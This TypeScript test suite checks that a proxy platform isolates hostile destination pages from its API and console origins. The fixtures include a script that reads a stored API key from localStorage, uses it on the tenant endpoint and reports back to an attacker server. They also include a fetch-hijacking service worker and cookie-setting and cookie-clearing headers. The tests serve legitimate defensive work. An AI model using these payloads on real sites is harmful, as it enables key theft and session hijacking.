import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { eventually, eventuallyEqual, serveHttp, useStack } from '@sluice/testing';
import { type OpenPage, openBrowser } from '@sluice/testing/browser';
import { startPlatform } from './platform.ts';

/** Where a browser finds a platform: below one registrable domain, as a company would have them. */
interface Layout {
  base: string;
  console: string;
}

const named = (port: number | string): Layout => ({
  base: `http://api.shop.localhost:${port}`,
  console: `http://console.shop.localhost:${port}`,
});

/** What a page does that a destination serves; `tell` reaches the attacker's own server. */
const hostilePage = (attacker: string) => `<!doctype html><title>hostile</title><link rel="icon" href="data:,"><script>
  const way = new URLSearchParams(location.search).get('way');
  const tell = (what) => fetch('${attacker}/caught/' + what + '-' + way, { mode: 'no-cors' });
  const steal = async () => {
    const key = localStorage.getItem('key');
    const answer = await fetch('/tenants/self', { headers: { 'SVC-API-KEY': key } });
    if (answer.ok) await tell('tenant');
  };
  tell('script').then(steal);
</script>`;

const hostileWorker = `
  self.addEventListener('install', () => self.skipWaiting());
  self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
  self.addEventListener('fetch', (event) => event.respondWith(new Response('answered by the destination')));
`;

/** A destination, and at the same time the attacker's own server. */
async function startAttacker(closing: AsyncDisposableStack) {
  const caught: string[] = [];
  const answers: Record<string, Record<string, string>> = {
    '/page': { 'content-type': 'text/html' },
    '/kept': { 'content-type': 'text/html', 'cache-control': 'max-age=3600' },
    '/validated': { 'content-type': 'text/html', 'cache-control': 'max-age=3600', etag: '"1"' },
    '/worker.js': { 'content-type': 'text/javascript', 'service-worker-allowed': '/' },
    '/clear': { 'content-type': 'text/plain', 'clear-site-data': '"cookies"' },
    '/cookie': { 'content-type': 'text/plain', 'set-cookie': 'session=of-the-attacker; Domain=shop.localhost; Path=/' },
  };
  const url = await serveHttp(closing, ({ url: target = '', headers }, response) => {
    const path = target.split('?')[0] ?? '';
    if (path.startsWith('/caught/')) caught.push(path.slice('/caught/'.length));
    const isFrames = path === '/frames';
    const isKnown = path === '/validated' && headers['if-none-match'] !== undefined;
    response.writeHead(isKnown ? 304 : 200, answers[path] ?? (isFrames ? { 'content-type': 'text/html' } : {}));
    if (isFrames) response.end(decodeURIComponent(target.split('?')[1] ?? ''));
    else if (path === '/worker.js') response.end(hostileWorker);
    else response.end(answers[path]?.['content-type'] === 'text/html' ? hostilePage(url) : '');
  });
  return { url, caught };
}

/** Passes requests on, but for what `without` takes from them and from their answers. */
async function startRelay(
  closing: AsyncDisposableStack,
  to: string,
  without: { host?: boolean; asked?: RegExp; answered?: RegExp },
): Promise<number> {
  const less = (headers: NodeJS.Dict<string | string[]>, dropped: RegExp | undefined) =>
    Object.fromEntries(Object.entries(headers).filter(([name]) => !dropped?.test(name)));
  const server: Server = createServer((incoming, response) => {
    const { method = 'GET', url = '', headers } = incoming;
    const host = without.host ? new URL(to).host : headers.host;
    const outgoing = request(`${to}${url}`, { method, headers: { ...less(headers, without.asked), host } });
    outgoing.on('error', () => response.destroy());
    outgoing.on('response', (answer) => {
      response.writeHead(answer.statusCode ?? 502, less(answer.headers, without.answered) as NodeJS.Dict<string>);
      answer.pipe(response);
    });
    incoming.pipe(outgoing);
  }).listen(0, '127.0.0.1');
  closing.defer(() => {
    server.closeAllConnections();
    server.close();
  });
  await new Promise((resolve) => server.once('listening', resolve));
  return (server.address() as AddressInfo).port;
}

const world = useStack(async (closing) => {
  const hosts = {
    CONSOLE_HOST: 'console.shop.localhost',
    FIELDS_HOST: 'fields.shop.localhost',
    ROUTES_HOST: 'routes.shop.localhost',
  };
  const { stack, createProxy } = await startPlatform(closing, { environment: hosts });
  const attacker = await startAttacker(closing);
  const proxy = await createProxy({ destination_url: attacker.url, require_auth: false });
  const { openPage } = await openBrowser();
  const { baseUrl, credentials } = stack;
  return {
    attacker,
    openPage,
    key: credentials.management_key,
    proxied: (path: string, way = '') => `/proxy${path}?svc-proxy-key=${proxy.key}&way=${way}`,
    layout: named(new URL(baseUrl).port),
    /** As it was: every host is the base host, and nothing is known of browsers. */
    former: named(await startRelay(closing, baseUrl, { host: true, asked: /^(sec-fetch-|service-worker$)/ })),
    /** As it would be without `Vary`. */
    keeping: named(await startRelay(closing, baseUrl, { answered: /^vary$/ })),
  };
});

/** A browser whose user has kept a key in the storage of both origins. */
async function openVictim(closing: AsyncDisposableStack, { base, console }: Layout): Promise<OpenPage> {
  const { openPage, key } = world.current;
  const opened = await openPage(closing);
  for (const url of [`${base}/`, `${console}/docs`]) {
    await opened.page.goto(url);
    await opened.page.evaluate((kept) => localStorage.setItem('key', kept), key);
  }
  world.current.attacker.caught.length = 0;
  return opened;
}

/** What the attacker has learned, once the page has done all that it can, or the browser has said that it may not. */
async function caughtBy({ seen }: OpenPage, way: string): Promise<string[]> {
  const { caught } = world.current.attacker;
  await eventually('the script ran or was blocked', async () => {
    return caught.includes(`tenant-${way}`) || seen.errors.some((text) => text.includes('Blocked script execution'));
  });
  return caught.toSorted();
}

const navigate = async (closing: AsyncDisposableStack, layout: Layout) => {
  const victim = await openVictim(closing, layout);
  await victim.page.goto(`${layout.base}${world.current.proxied('/page', 'page')}`);
  return caughtBy(victim, 'page');
};

/** Which frames run a script. Those that should are waited for, because the network may be idle before they do. */
const embed = async (closing: AsyncDisposableStack, layout: Layout, expected: readonly string[]) => {
  const { page } = await openVictim(closing, layout);
  const { attacker, proxied } = world.current;
  const at = (way: string) => `"${layout.base}${proxied('/page', way)}"`;
  const html = `<iframe src=${at('iframe')}></iframe><object data=${at('object')}></object><embed src=${at('embed')}>`;
  await page.goto(`${attacker.url}/frames?${encodeURIComponent(html)}`);
  await page.waitForLoadState('networkidle');
  await eventuallyEqual(() => attacker.caught.filter((what) => what.startsWith('script')).toSorted(), expected);
};

/**
 * What `/docs` answers after a document of the base host has tried to register the destination's service worker. That is a
 * refusal, because the policy of our own pages allows no worker.
 */
const register = async (closing: AsyncDisposableStack, layout: Layout) => {
  const { page } = await openVictim(closing, layout);
  await page.goto(`${layout.base}/nowhere`);
  const registered = await page.evaluate(async (script) => {
    try {
      await navigator.serviceWorker.register(script, { scope: '/' });
      await navigator.serviceWorker.ready;
      return 'registered';
    } catch (error) {
      return (error as Error).name;
    }
  }, world.current.proxied('/worker.js'));
  const answer = await page.goto(`${layout.base}/docs`);
  return { registered, isTheirs: (await answer?.text()) === 'answered by the destination' };
};

/** Which cookies the console's host would get after a request to a destination. */
const setCookie = async (closing: AsyncDisposableStack, layout: Layout) => {
  const { page } = await openVictim(closing, layout);
  await page.goto(`${layout.base}${world.current.proxied('/cookie')}`);
  const namesAt = async (url: string) => (await page.context().cookies(url)).map(({ name }) => name);
  return { console: await namesAt(layout.console), base: await namesAt(layout.base) };
};

/** Which cookies the console's host has left after a page of a destination asked the browser to delete all. */
const clearCookies = async (closing: AsyncDisposableStack, layout: Layout) => {
  const { page } = await openVictim(closing, layout);
  await page.context().addCookies([{ name: 'sign-in', value: 'x', url: layout.console }]);
  await page.goto(`${layout.base}${world.current.proxied('/clear')}`);
  return (await page.context().cookies(layout.console)).map(({ name }) => name);
};

/**
 * A page that is in the browser's cache, since a script asked for it, is opened from there. The script runs in a refusal,
 * because the policy of our own pages forbids requests.
 */
const openKept = async (closing: AsyncDisposableStack, layout: Layout, kept: string) => {
  const victim = await openVictim(closing, layout);
  const path = world.current.proxied(kept, 'kept');
  await victim.page.goto(`${layout.base}/nowhere`);
  await victim.page.evaluate(async (kept) => (await fetch(kept)).text(), path);
  await victim.page.goto(`${layout.base}${path}`);
  return caughtBy(victim, 'kept');
};

describe('a destination that serves hostile pages', () => {
  test('runs no script as a page, so it has no key and calls no operation', async () => {
    await using closing = new AsyncDisposableStack();
    expect(await navigate(closing, world.current.layout)).toEqual([]);
    expect(await navigate(closing, world.current.former)).toEqual(['script-page', 'tenant-page']);
  });

  test('nor in a frame of any kind', async () => {
    await using closing = new AsyncDisposableStack();
    await embed(closing, world.current.layout, []);
    await embed(closing, world.current.former, ['script-embed', 'script-iframe', 'script-object']);
  });

  test('registers no service worker, so it answers for no page of ours', async () => {
    await using closing = new AsyncDisposableStack();
    const refused = { registered: 'TypeError', isTheirs: false };
    expect(await register(closing, world.current.layout)).toEqual(refused);
    expect(await register(closing, world.current.former)).toEqual({ registered: 'registered', isTheirs: true });
  });

  test('sets no cookie of the console', async () => {
    await using closing = new AsyncDisposableStack();
    expect(await setCookie(closing, world.current.layout)).toEqual({ console: [], base: ['session'] });
    expect(await setCookie(closing, world.current.former)).toEqual({ console: ['session'], base: ['session'] });
  });

  test('deletes no cookie of the console, so it signs nobody out', async () => {
    await using closing = new AsyncDisposableStack();
    expect(await clearCookies(closing, world.current.layout)).toEqual(['sign-in']);
    expect(await clearCookies(closing, world.current.former)).toEqual([]);
  });

  test.each(['/kept', '/validated'])('is not shown from the cache without its sandbox: %s', async (kept) => {
    await using closing = new AsyncDisposableStack();
    expect(await openKept(closing, world.current.layout, kept)).toEqual([]);
    expect(await openKept(closing, world.current.keeping, kept)).toEqual(['script-kept', 'tenant-kept']);
  });

  test('is not there at the host of the console', async () => {
    await using closing = new AsyncDisposableStack();
    const { page } = await openVictim(closing, world.current.layout);
    const path = world.current.proxied('/page', 'console');
    const { page: other } = await openVictim(closing, world.current.former);
    await other.goto(`${world.current.former.console}${path}`);
    expect(await other.title()).toBe('hostile');
    // A navigation to the console's host gets the console's own page, whatever the path.
    await page.goto(`${world.current.layout.console}${path}`);
    // It goes on to the sign-in, so its document may be a new one that has no title yet.
    // The other page is in front of it, and a page behind another may draw no frames.
    await page.waitForFunction(() => document.title.includes('Sluice'), undefined, { polling: 100 });
  });
});
